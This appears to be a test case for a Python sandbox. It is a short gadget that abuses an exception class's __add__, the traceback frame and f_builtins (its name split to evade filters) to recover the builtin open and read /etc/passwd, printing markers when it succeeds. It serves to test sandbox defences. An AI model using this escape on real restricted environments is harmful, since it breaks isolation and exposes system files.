# tries: an operator whose method is a reader in C
# class: gadgets
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def pick(frame):
    if frame is not None:
        print("REACHED")
    return getattr(frame, "f_" + "builtins")["open"]


class E(Exception):
    __add__ = object.__getattribute__


try:
    raise E
except E as error:
    use(pick((error + "__traceback__").tb_frame))
